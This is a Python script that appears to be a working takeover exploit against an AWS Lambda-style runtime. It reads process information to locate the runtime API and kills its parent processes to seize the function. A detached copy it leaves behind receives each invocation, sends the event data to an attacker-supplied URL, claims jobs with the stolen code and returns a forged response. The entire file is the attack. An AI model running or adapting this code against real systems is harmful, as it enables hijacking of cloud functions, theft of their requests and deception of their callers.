"""A job that kills what runs it and answers for the function from then on: `takeover.py THIEF`."""

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request

THIEF = sys.argv[1]
MARK = "left by a takeover"


def ask(url, data=None, headers=(), seconds=3600):
    try:
        request = urllib.request.Request(url, data, dict(headers))
        with urllib.request.urlopen(request, timeout=seconds) as answer:
            return answer.status, dict(answer.headers), answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, {}, error.read().decode()


def read(path):
    with open(path) as file:
        return file.read()


def tell(**words):
    ask(THIEF, json.dumps(words).encode())


def hear():
    """Every event that this environment gets: told, tried, and answered with a lie."""
    command = read("/proc/1/cmdline").split("\0")
    place = command[command.index("--runtime-api-address") + 1]
    api = f"http://{place}/2018-06-01/runtime"
    tell(hears=place)
    while True:
        status, headers, event = ask(f"{api}/invocation/next")
        if status != 200:
            tell(next=status, said=event)
            time.sleep(0.2)
            continue
        id = {name.lower(): value for name, value in headers.items()}[
            "lambda-runtime-aws-request-id"
        ]
        tell(heard=json.loads(event))
        bootstrap = json.loads(event)
        base = f"{bootstrap['url']}/jobs/{bootstrap['attempt']}"
        code = json.dumps({"code": bootstrap["code"]}).encode()
        claimed = ask(f"{base}/claim", code, {"Content-Type": "application/json"})
        tell(claimed=claimed[0], attempt=bootstrap["attempt"], said=claimed[2])
        tell(answered=ask(f"{api}/invocation/{id}/response", b'"forged"')[0])


if len(sys.argv) > 2:
    hear()
home = next(
    word.partition("=")[2]
    for word in read("/proc/1/environ").split("\0")
    if word.startswith("TMPDIR=")
)
for folder in (home, os.environ["HOME"], os.getcwd()):
    with open(f"{folder}/mark", "w") as file:
        file.write(MARK)
subprocess.Popen(
    [sys.executable, os.path.abspath(__file__), THIEF, "hear"],
    start_new_session=True,
    cwd="/",
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
time.sleep(2)
pid, above = os.getppid(), []
while pid > 1:
    above.append(pid)
    pid = int(read(f"/proc/{pid}/stat").rpartition(")")[2].split()[1])
# From the top: the function's own process first, which would have cleaned up.
for pid in reversed(above):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
